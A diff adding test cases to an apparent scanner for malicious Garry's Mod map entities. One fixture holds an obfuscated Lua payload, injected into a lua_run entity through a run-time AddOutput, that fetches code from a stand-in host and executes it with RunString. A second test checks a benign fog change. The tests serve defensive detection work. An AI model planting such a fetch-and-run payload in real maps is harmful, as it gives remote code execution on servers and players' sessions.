@@ -28,6 +28,28 @@ describe('map_luarun', () => {
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
     expect(findings[0]?.decoded).toContain('sv_allowcslua 1');
   });
+  it('a lua_run handed, through an output added at run time, code with braces and colons', () => {
+    const findings = check(rule, {
+      'maps/r.bsp': [
+        '{\n"classname" "lua_run"\n"targetname" "river_fx"\n}',
+        '{\n"classname" "logic_relay"\n"targetname" "amb_relay"\n}',
+        '{\n"classname" "logic_auto"',
+        '"OnMapSpawn" "amb_relay,AddOutput,OnTrigger river_fx:RunPassedCode:HTTP({url=\'https\'..string.char(58)..\'//m.x.invalid/a.php\'; success=function(c, b) RunString(b) end}):2:-1,1,-1"',
+        '"OnMapSpawn" "amb_relay,Trigger,,3,-1"\n}',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('an output added at run time that changes the fog (benign)', () => {
+    const findings = check(rule, {
+      'maps/r.bsp': [
+        '{\n"classname" "point_servercommand"\n"targetname" "cmd"\n}',
+        '{\n"classname" "logic_auto"',
+        '"OnMapSpawn" "amb_relay,AddOutput,OnTrigger cmd:Command:fog_override 1:2:-1,1,-1"\n}',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
   it('a point_servercommand that an output tells to change the fog', () => {
     const findings = check(rule, {
       'maps/z.bsp': [
